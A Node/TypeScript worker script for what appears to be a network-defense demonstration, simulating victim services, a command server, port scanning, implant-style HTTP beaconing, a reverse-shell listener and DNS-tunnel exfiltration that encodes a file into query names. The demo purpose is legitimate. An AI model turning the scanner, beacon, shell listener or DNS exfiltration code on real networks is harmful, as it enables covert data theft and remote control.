#!/usr/bin/env node
// The demo's actors, one small process each, run inside a host's network namespace with
// `ip netns exec`: the victim's services, the command server, and the attacker's tools. Each prints
// what it did as JSON lines on stdout (the demo narrates them) and uses only real sockets.
import { createSocket } from 'node:dgram';
import { connect, createServer, type Socket } from 'node:net';
import { readFileSync } from 'node:fs';
import * as dnsPacket from 'dns-packet';

type Report = Record<string, unknown> & { event: string };

function report(line: Report): void {
  process.stdout.write(`${JSON.stringify(line)}\n`);
}

/** The victim's listening services: an SSH-like banner and a small web app; counts connections. */
function victimServices(ssh: number, web: number): void {
  const serve = (port: number, reply: string): void => {
    const server = createServer((socket) => {
      report({ event: 'accepted', port, from: socket.remoteAddress ?? '' });
      socket.on('error', () => undefined);
      socket.end(reply);
    });
    server.listen(port, '0.0.0.0', () => report({ event: 'listening', port }));
  };
  serve(ssh, 'SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n');
  serve(web, 'HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nok\n');
}

/** The command server: the beacon's HTTP endpoint and the tunnel's DNS resolver. */
function commandServer(address: string, httpPort: number, dnsPort: number): void {
  const http = createServer((socket) => {
    socket.on('error', () => undefined);
    socket.once('data', () => {
      report({ event: 'beacon-received', from: socket.remoteAddress ?? '' });
      socket.end('HTTP/1.1 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\nsleep');
    });
  });
  http.listen(httpPort, address, () => report({ event: 'listening', port: httpPort }));
  const dns = createSocket('udp4');
  dns.on('message', (message, peer) => {
    let query: dnsPacket.Packet;
    try {
      query = dnsPacket.decode(message);
    } catch {
      return;
    }
    const question = query.questions?.[0];
    if (!question) return;
    // Answers like a tunnel server would: an A record whose address acknowledges the chunk.
    const answer = dnsPacket.encode({
      type: 'response',
      id: query.id ?? 0,
      flags: dnsPacket.AUTHORITATIVE_ANSWER,
      questions: [question],
      answers: [{ type: 'A', name: question.name, ttl: 0, data: address }],
    });
    dns.send(answer, peer.port, peer.address);
    report({ event: 'dns-query', name: question.name });
  });
  dns.bind(dnsPort, address, () => report({ event: 'listening', port: dnsPort, protocol: 'udp' }));
}

function tryConnect(
  host: string,
  port: number,
  timeoutMs: number,
): Promise<'open' | 'closed' | 'filtered'> {
  return new Promise((resolve) => {
    const socket: Socket = connect({ host, port });
    const done = (result: 'open' | 'closed' | 'filtered'): void => {
      socket.destroy();
      resolve(result);
    };
    socket.setTimeout(timeoutMs, () => done('filtered'));
    socket.once('connect', () => done('open'));
    socket.once('error', (err: NodeJS.ErrnoException) =>
      done(err.code === 'ECONNREFUSED' ? 'closed' : 'filtered'),
    );
  });
}

/** A TCP connect scan of `ports` on `host`, a few at a time (as `nmap -sT` does). */
async function scan(host: string, ports: number[], timeoutMs: number): Promise<void> {
  const open: number[] = [];
  let closed = 0;
  let filtered = 0;
  const queue = [...ports];
  await Promise.all(
    Array.from({ length: 8 }, async () => {
      for (let port = queue.shift(); port !== undefined; port = queue.shift()) {
        const result = await tryConnect(host, port, timeoutMs);
        if (result === 'open') open.push(port);
        else if (result === 'closed') closed++;
        else filtered++;
      }
    }),
  );
  report({
    event: 'scan-done',
    host,
    ports: ports.length,
    open: open.sort((a, b) => a - b),
    closed,
    filtered,
  });
}

/** The attacker's listener for the reverse shell: runs a few commands and prints their output. */
function reverseShellListener(port: number, commands: string): void {
  const server = createServer((socket) => {
    report({ event: 'shell-connected', from: socket.remoteAddress ?? '' });
    let output = '';
    socket.setEncoding('utf8');
    socket.on('data', (chunk: string) => (output += chunk));
    socket.on('error', () => undefined);
    socket.on('close', () => {
      report({ event: 'shell-closed', output });
      server.close();
    });
    socket.write(`${commands}\nexit\n`);
  });
  server.listen(port, '0.0.0.0', () => report({ event: 'listening', port }));
}

/** Check-ins to the command server: same request, same interval, as implants do. */
async function beacon(
  host: string,
  port: number,
  count: number,
  intervalMs: number,
): Promise<void> {
  for (let i = 1; i <= count; i++) {
    const started = Date.now();
    const ok = await new Promise<boolean>((resolve) => {
      const socket = connect({ host, port }, () =>
        socket.write(
          `POST /checkin HTTP/1.1\r\nHost: ${host}\r\nContent-Length: 16\r\n\r\nid=victim&seq=00`,
        ),
      );
      socket.setTimeout(3_000, () => (socket.destroy(), resolve(false)));
      socket.on('data', () => undefined);
      socket.once('end', () => (socket.destroy(), resolve(true)));
      socket.once('error', () => resolve(false));
    });
    report({ event: 'beacon-sent', seq: i, ok });
    if (i < count) await sleep(Math.max(0, intervalMs - (Date.now() - started)));
  }
  report({ event: 'beacon-done', count });
}

const BASE32 = 'abcdefghijklmnopqrstuvwxyz234567';

function base32(bytes: Buffer): string {
  let bits = 0;
  let value = 0;
  let out = '';
  for (const byte of bytes) {
    value = (value << 8) | byte;
    bits += 8;
    while (bits >= 5) {
      out += BASE32[(value >>> (bits - 5)) & 31];
      bits -= 5;
    }
  }
  if (bits > 0) out += BASE32[(value << (5 - bits)) & 31];
  return out;
}

/** Exfiltration over DNS: the file, base32-encoded in 36-character labels under `domain`. */
async function dnsTunnel(
  server: string,
  port: number,
  domain: string,
  file: string,
  maxQueries: number,
): Promise<void> {
  const encoded = base32(readFileSync(file));
  const chunks: string[] = [];
  for (let i = 0; i < encoded.length && chunks.length < maxQueries; i += 36)
    chunks.push(encoded.slice(i, i + 36));
  const socket = createSocket('udp4');
  let answered = 0;
  for (const [seq, chunk] of chunks.entries()) {
    const name = `${chunk}.${seq.toString(36)}.${domain}`;
    const query = dnsPacket.encode({
      type: 'query',
      id: seq + 1,
      flags: dnsPacket.RECURSION_DESIRED,
      questions: [{ type: 'A', name }],
    });
    const reply = new Promise<boolean>((resolve) => {
      const timer = setTimeout(() => resolve(false), 1_000);
      socket.once('message', () => (clearTimeout(timer), resolve(true)));
    });
    socket.send(query, port, server);
    if (await reply) answered++;
    await sleep(50);
  }
  socket.close();
  report({ event: 'dns-tunnel-done', queries: chunks.length, answered, bytes: encoded.length });
}

/** One connection attempt, for after the block: connected, refused or nothing came back. */
async function probe(host: string, port: number, timeoutMs: number): Promise<void> {
  report({ event: 'probe', host, port, result: await tryConnect(host, port, timeoutMs) });
}

function sleep(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

function portList(spec: string): number[] {
  return spec.split(',').flatMap((part) => {
    const [from, to] = part.split('-').map(Number);
    if (!Number.isInteger(from) || (to !== undefined && !Number.isInteger(to))) {
      throw new Error(`port list: '${part}' is not a port or a range`);
    }
    return to === undefined ? [from!] : Array.from({ length: to - from! + 1 }, (_, i) => from! + i);
  });
}

async function run(args: string[]): Promise<void> {
  const [command, ...rest] = args;
  const n = (i: number): number => Number(rest[i]);
  switch (command) {
    case 'victim-services':
      return victimServices(n(0), n(1));
    case 'command-server':
      return commandServer(rest[0]!, n(1), n(2));
    case 'scan':
      return scan(rest[0]!, portList(rest[1]!), n(2));
    case 'reverse-shell-listener':
      return reverseShellListener(n(0), rest[1]!);
    case 'beacon':
      return beacon(rest[0]!, n(1), n(2), n(3));
    case 'dns-tunnel':
      return dnsTunnel(rest[0]!, n(1), rest[2]!, rest[3]!, n(4));
    case 'probe':
      return probe(rest[0]!, n(1), n(2));
    default:
      throw new Error(`demo-worker: unknown command '${command ?? ''}'`);
  }
}

run(process.argv.slice(2)).catch((err: unknown) => {
  process.stderr.write(`demo-worker: ${err instanceof Error ? err.message : String(err)}\n`);
  process.exit(1);
});
